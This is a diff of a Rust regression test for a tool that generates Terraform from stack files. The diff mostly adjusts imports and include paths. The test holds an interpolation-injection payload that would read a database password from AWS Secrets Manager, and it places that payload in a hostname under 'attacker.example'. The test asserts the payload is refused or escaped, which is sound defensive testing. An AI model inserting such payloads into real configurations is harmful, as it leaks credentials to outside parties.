@@ -6,14 +6,7 @@
 //! (the payload appended, and the payload alone), each mutant is compiled, and every file of
 //! every root is searched for the payload: each occurrence must be escaped.
 
-#![allow(
-    clippy::unwrap_used,
-    clippy::expect_used,
-    clippy::indexing_slicing,
-    clippy::panic
-)]
-
-mod common;
+use crate::common;
 
 use std::path::{Path, PathBuf};
 
@@ -128,7 +121,7 @@ fn no_string_of_a_stack_becomes_an_interpolation() {
 fn the_reported_exploit_is_text() {
     let payload = "${jsondecode(data.aws_secretsmanager_secret_version.db.secret_string).password}";
     // As the legacy host it is not a DNS name: refused before anything is built (PMG1206).
-    let text = include_str!("../stacks/payment.pmig").replace(
+    let text = include_str!("../../stacks/payment.pmig").replace(
         "legacy   = \"legacy.pay.example.com\"",
         &format!("legacy   = \"{payload}.x.attacker.example\""),
     );
@@ -140,7 +133,7 @@ fn the_reported_exploit_is_text() {
         .collect();
     assert_eq!(codes, ["PMG1206"]);
     // In a slot that takes any text (the DMS source user), it reaches Terraform as text.
-    let text = include_str!("../stacks/payment.pmig").replace(
+    let text = include_str!("../../stacks/payment.pmig").replace(
         "username = \"dms_reader\"",
         &format!("username = \"{payload}\""),
     );
